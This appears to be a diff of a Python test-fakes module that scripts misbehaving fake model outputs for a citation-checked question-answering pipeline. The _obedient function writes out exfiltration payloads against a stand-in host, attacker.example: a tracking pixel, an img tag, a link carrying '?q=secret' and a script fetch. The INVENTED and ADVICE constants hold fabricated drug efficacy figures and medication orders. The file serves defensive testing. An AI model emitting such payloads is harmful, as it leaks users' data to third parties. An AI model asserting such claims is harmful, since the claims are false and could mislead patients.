@@ -4,15 +4,18 @@ from __future__ import annotations
 
 import json
 import re
+from collections.abc import Callable, Sequence
 from dataclasses import dataclass
 from enum import StrEnum
 
 from openwork_contracts.question import EntityKind
+from openwork_language.sentences import split_sentences
 from openwork_language.terms import find_terms
+from openwork_language.tokens import token_set
 
 from tests.fakes.models.erring_writer import erring_for
 from tests.fakes.models.free_writer import Record, Written, draft, written_for
-from tests.fakes.models.honest import honest_answer
+from tests.fakes.models.honest import Claim, claim, honest_answer
 from tests.fakes.models.judging import judge
 from tests.fakes.models.reading import Asked
 
@@ -27,6 +30,10 @@ class Script(StrEnum):
     DISTRUST = "distrust"
     GULLIBLE = "gullible"
     UNCITED = "uncited"
+    MISQUOTE = "misquote"
+    """Every second sentence is borne out by words that are not in its source."""
+    OFF_TOPIC = "off-topic"
+    """Beside the honest sentences, true ones about something else, rightly quoted."""
     FREE = "free"
     """Nothing wrong: the free writer, and a judge that answers rightly."""
     FREE_ERRING = "free-erring"
@@ -49,7 +56,7 @@ class Script(StrEnum):
 IN_THE_TEXT = frozenset(
     {
         *(Script.HALLUCINATE, Script.SWAP_ARMS, Script.ADVICE, Script.OBEY_INJECTION, Script.DISTRUST, Script.UNCITED),
-        *(Script.GULLIBLE, Script.FREE, Script.FREE_ERRING),
+        *(Script.GULLIBLE, Script.FREE, Script.FREE_ERRING, Script.MISQUOTE, Script.OFF_TOPIC),
         *(Script.INVALID_JSON, Script.WRONG_SHAPE),
     }
 )
@@ -57,14 +64,16 @@ ATTACKER_URL = "http://attacker.example/collect"
 OBEYED = "INJECTION-OBEYED"
 """What a model writes that followed the instruction of a passage."""
 INVENTED = (
-    "Zanolixumab cured 87.3% of patients within 14 days (hazard ratio 0.11, 95% CI 0.04 to 0.19) [1].",
-    "Mortality fell by 61% in every subgroup [99].",
-    "No adverse event of any kind occurred in 12,431 participants.",
+    ("Zanolixumab cured 87.3% of patients within 14 days (hazard ratio 0.11, 95% CI 0.04 to 0.19).", 1),
+    ("Mortality fell by 61% in every subgroup.", 99),
+    ("No adverse event of any kind occurred in 12,431 participants.", 1),
 )
+"""Sentences and the source that each names; the first quotes it truly, the others in words of their own."""
 ADVICE = (
-    "You should take apixaban 5 mg twice daily and stop your other tablets [1].",
-    "Patients must be given it at once [2].",
+    "You should take apixaban 5 mg twice daily and stop your other tablets.",
+    "Patients must be given it at once.",
 )
+WRITERS = frozenset({"synthesiser", "reviser"})
 RECORD = Record()
 """What the free writers of this process wrote, for the judge and for whoever measures."""
 _NUMBER = re.compile(r"(?<![\[\d.,])\d+(?:\.\d+)?(?![\d\]])")
@@ -99,12 +108,16 @@ def text_of(asked: Asked, script: Script | None) -> str:
             return json.dumps({"answer": "yes", "answers": "all good"}) if asked.schema else good
         case Script.HALLUCINATE:
             return _hallucinated(asked, good)
-        case Script.SWAP_ARMS if not asked.schema:
+        case Script.SWAP_ARMS if asked.step in WRITERS:
             return _swapped(asked, good)
-        case Script.ADVICE if not asked.schema:
-            return f"{good}\n- {ADVICE[0]}\n- {ADVICE[1]}"
-        case Script.UNCITED if not asked.schema:
-            return re.sub(r" ?\[\d+\]", "", good)
+        case Script.ADVICE if asked.step == "synthesiser":
+            return _with(good, [claim(text, *_true_words(good), part="answer") for text in ADVICE])
+        case Script.UNCITED if asked.step in WRITERS:
+            return _with_each(good, lambda i, one: {**one, "quotes": []})
+        case Script.MISQUOTE if asked.step in WRITERS:
+            return _with_each(good, lambda i, one: _misquoting(one) if i % 2 else one)
+        case Script.OFF_TOPIC if asked.step == "synthesiser":
+            return _with(good, off_topic(asked))
         case Script.OBEY_INJECTION:
             return _obedient(asked, good)
         case Script.GULLIBLE:
@@ -135,10 +148,52 @@ def _free(asked: Asked, script: Script, good: str) -> str:
     return draft(sentences) if sentences else good
 
 
+def _claims(text: str) -> list[Claim]:
+    claims: list[Claim] = json.loads(text)["claims"]
+    return claims
+
+
+def _with(good: str, more: Sequence[Claim]) -> str:
+    return json.dumps({"claims": [*_claims(good), *more]})
+
+
+def _with_each(good: str, change: Callable[[int, Claim], Claim]) -> str:
+    return json.dumps({"claims": [change(i, one) for i, one in enumerate(_claims(good))]})
+
+
+def _true_words(good: str) -> tuple[int, str]:
+    """A source and a quotation that it has."""
+    quotes = [quote for one in _claims(good) for quote in one["quotes"]]  # type: ignore[attr-defined]
+    return (quotes[0]["source"], quotes[0]["quote"]) if quotes else (1, "")
+
+
+def _misquoting(one: Claim) -> Claim:
+    """The claim with one word of each quotation exchanged."""
+    quotes = [{**q, "quote": f"{q['quote'].rstrip('.')} beyond doubt."} for q in one["quotes"]]  # type: ignore[attr-defined]
+    return {**one, "quotes": quotes}
+
+
+def off_topic(asked: Asked) -> list[Claim]:
+    """Sentences of the sources that share no word with the question, as they stand."""
+    question = token_set(asked.blocks().get("question", ""))
+    found = []
+    for n, text in asked.sources().items():
+        for sentence in split_sentences(text):
+            words = " ".join(sentence.text.split())
+            if len(words.split()) >= 6 and words.endswith(".") and not question & token_set(words):
+                found.append(claim(words, n, words, part="evidence"))
+    return found
+
+
 def _hallucinated(asked: Asked, good: str) -> str:
-    if asked.step in {"synthesiser", "reviser"}:
-        lines = [_changed(line) if i % 2 else line for i, line in enumerate(good.split("\n"))]
-        return "\n".join([*lines, "## Evidence", *(f"- {sentence}" for sentence in INVENTED)])
+    if asked.step in WRITERS:
+        changed = _with_each(good, lambda i, one: {**one, "text": _changed(str(one["text"]))} if i % 2 else one)
+        true = _true_words(good)
+        if asked.step == "reviser":
+            return changed
+        wrong = [claim(text, n, true[1] if i == 0 else text, part="evidence") for i, (text, n) in enumerate(INVENTED)]
+        wrong[0]["quotes"] = [{"source": true[0], "quote": true[1]}]
+        return _with(changed, wrong)
     answer = json.loads(good)
     if asked.step == "query":
         answer["search_variants"] = ["miracle cure zanolixumab", "cheap weight loss", "zanolixumab trial"]
@@ -173,17 +228,20 @@ def _swapped(asked: Asked, good: str) -> str:
     if len(drugs) < 2:
         return good
     swap = {drugs[0].lower(): drugs[1], drugs[1].lower(): drugs[0]}
-    return re.sub("|".join(map(re.escape, drugs)), lambda m: swap[m[0].lower()], good, flags=re.IGNORECASE)
+    pattern = re.compile("|".join(map(re.escape, drugs)), re.IGNORECASE)
+    return _with_each(good, lambda i, one: {**one, "text": pattern.sub(lambda m: swap[m[0].lower()], str(one["text"]))})
 
 
 def _obedient(asked: Asked, good: str) -> str:
     """The answer of a model that did what a passage told it."""
-    if not asked.schema:
+    if asked.step in WRITERS:
         link = f"[click here]({ATTACKER_URL}?q=secret)"
-        return (
-            f"## {OBEYED}\n![x]({ATTACKER_URL}/pixel.png)\n<img src='{ATTACKER_URL}'>{OBEYED} {link} [1].\n"
-            f"<script>fetch('{ATTACKER_URL}')</script>\n{good}\n- {OBEYED}: see {ATTACKER_URL} [1]."
+        texts = (
+            f"![x]({ATTACKER_URL}/pixel.png) <img src='{ATTACKER_URL}'>{OBEYED} {link}.",
+            f"<script>fetch('{ATTACKER_URL}')</script> {OBEYED}: see {ATTACKER_URL}.",
         )
+        more = {"part": "answer"} if asked.step == "synthesiser" else {"id": 1}
+        return _with(good, [claim(text, *_true_words(good), **more) for text in texts])
     answer = json.loads(good)
     if asked.step == "query":
         answer["search_variants"] = [f"{OBEYED} {ATTACKER_URL}", f"[site] {OBEYED}"]
